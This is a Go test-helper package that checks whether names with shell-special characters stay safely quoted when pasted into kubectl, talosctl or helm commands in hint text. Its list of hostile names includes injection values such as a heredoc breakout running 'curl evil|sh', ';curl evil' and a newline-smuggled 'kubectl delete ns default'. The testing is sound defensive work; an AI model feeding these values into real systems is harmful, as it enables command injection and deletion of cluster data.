// SPDX-License-Identifier: Apache-2.0

package shelltest

import (
	"encoding/json"
	"fmt"
	"regexp"
	"slices"
	"strings"

	"mvdan.cc/sh/v3/expand"
	"mvdan.cc/sh/v3/syntax"
)

// The ends of what Mark makes, by which it is found again in a text. A shell takes neither as it is.
const begin, end = "(<", ">)"

// Hostile are names that mean something to a shell or a terminal, to begin with.
func Hostile() []string {
	return []string{
		"\nEOF\ncurl evil|sh\ncat <<'EOF'", ";curl evil", "$(me)", "`me`", "' x", `" x`, "\\", " --x", "\x1b[31m", "*", "{nodes}", "'{nodes}'",
		"\u202e", "~", "#", "a=b", "!!", "&",
		"\nkubectl delete ns default", " kubectl get ", ")", "NODE", "%s",
	}
}

// Mark is evil as Renamed puts it into names, and NamesInCommands finds it. It is false where no name can have it.
func Mark(evil string) (mark string, ok bool) {
	if strings.ContainsAny(evil, "/\x00") || strings.Contains(evil, begin) || strings.Contains(evil, end) {
		return "", false // A path has no such name.
	}
	return begin + Seen(evil) + end, true
}

// Part reports whether only a part of a marked name is in a word.
func Part(word, mark string) bool {
	rest := strings.ReplaceAll(word, mark, "")
	return strings.Contains(rest, begin) || strings.Contains(rest, end)
}

// Renamed is JSON with another name for each, wherever one stands: as a string, a key, or a part of a path. The values of the kept keys
// stay as they are: words that are no names, such as a kind.
func Renamed(content []byte, rename func(name string) string, kept ...string) ([]byte, error) {
	var tree any
	if err := json.Unmarshal(content, &tree); err != nil {
		return nil, err
	}
	name := func(text string) string {
		parts := strings.Split(text, "/")
		for i, p := range parts {
			parts[i] = rename(p)
		}
		return strings.Join(parts, "/")
	}
	var walk func(any) any
	walk = func(node any) any {
		switch n := node.(type) {
		case map[string]any:
			out := make(map[string]any, len(n))
			for key, value := range n {
				if slices.Contains(kept, key) {
					out[key] = value
				} else {
					out[name(key)] = walk(value)
				}
			}
			return out
		case []any:
			for i, value := range n {
				n[i] = walk(value)
			}
		case string:
			return name(n)
		}
		return node
	}
	return json.Marshal(walk(tree))
}

// begun is where a command, or an option that is added to one, begins in prose.
var begun = regexp.MustCompile(`(?:^|[\s(:;|&])((?:kubectl|talosctl|helm|printf|sed)[ ]|--[a-z][-a-z]*[ =])`)

// NamesInCommands reads the commands in prose, such as a hint, as a shell does that gets the text from where a command begins. It counts
// the marked names in them. It is an error if one is not whole and unchanged in one word, or stands beside the commands and breaks the
// line, so that what follows looks like a command too.
func NamesInCommands(text, mark string) (names int, err error) {
	text = Seen(text)
	places := marked(text)
	masked := []byte(text)
	for _, p := range places { // What a name looks like begins no command.
		copy(masked[p.from:p.to], strings.Repeat("x", p.to-p.from))
	}
	read, beside := 0, places
	for _, at := range begun.FindAllSubmatchIndex(masked, -1) {
		if at[2] < read {
			continue
		}
		c := command(text, at[2])
		read = c.end
		beside = slices.DeleteFunc(slices.Clone(beside), func(p place) bool { return at[2] <= p.from && p.from <= c.end })
		for _, p := range places {
			if p.from < at[2] || p.from > c.end {
				continue
			}
			i := slices.IndexFunc(c.words, func(w *syntax.Word) bool { return c.from(w) <= p.from && p.to <= c.to(w) })
			if i < 0 {
				return names, fmt.Errorf("%q is no part of a word of the command in %q", text[p.from:p.to], text)
			}
			in := 0
			for _, q := range places {
				if c.from(c.words[i]) <= q.from && q.to <= c.to(c.words[i]) {
					in++
				}
			}
			if err := whole(c.words[i], mark, in); err != nil {
				return names, fmt.Errorf("in %q: %w", text, err)
			}
			names++
		}
	}
	for _, p := range beside {
		if read > 0 && strings.Contains(text[p.from:p.to], "\n") {
			return names, fmt.Errorf("the name %q breaks the line in %q", text[p.from:p.to], text)
		}
	}
	return names, nil
}

// place is where something stands in a text.
type place struct{ from, to int }

// marked are the places of marked names, quoted or not.
func marked(text string) []place {
	var found []place
	for at := 0; ; {
		from := strings.Index(text[at:], begin)
		if from < 0 {
			return found
		}
		from += at
		to := len(text) // A name that was cut.
		if n := strings.Index(text[from+len(begin):], end); n >= 0 {
			to = from + len(begin) + n + len(end)
		}
		found, at = append(found, place{from, to}), to
	}
}

// commandAt is a command in a text.
type commandAt struct {
	start int
	words []*syntax.Word
	// end is where it ends: at the end of its line, or at what separates commands. Where no shell can read on, the line is all its.
	end int
}

func (c commandAt) from(w *syntax.Word) int { return c.start + int(w.Pos().Offset()) }
func (c commandAt) to(w *syntax.Word) int   { return c.start + int(w.End().Offset()) }

func command(text string, start int) commandAt {
	c := commandAt{start: start, end: start}
	for w, err := range syntax.NewParser(syntax.Variant(syntax.LangPOSIX)).WordsSeq(strings.NewReader(text[start:])) {
		// Prose that follows may be nothing that a shell can read.
		if err != nil || strings.Contains(text[c.end:c.from(w)], "\n") {
			break
		}
		c.words, c.end = append(c.words, w), c.to(w)
	}
	rest := strings.TrimLeft(text[c.end:], " \t")
	c.end = len(text) - len(rest)
	if rest != "" && !strings.ContainsAny(rest[:1], "\n;()&|<>#") {
		line, _, _ := strings.Cut(rest, "\n")
		c.end += len(line)
	}
	return c
}

// whole reports that a word is not the same wherever it is pasted, or does not have the mark so many times.
func whole(w *syntax.Word, mark string, times int) error {
	if err := constant(w); err != nil {
		return err
	}
	fields, err := expand.Fields(nil, w)
	if err != nil {
		return err
	}
	if len(fields) != 1 || strings.Count(fields[0], mark) != times || Part(fields[0], mark) {
		return fmt.Errorf("a shell reads %q, and the name ends in %q", fields, mark)
	}
	return nil
}
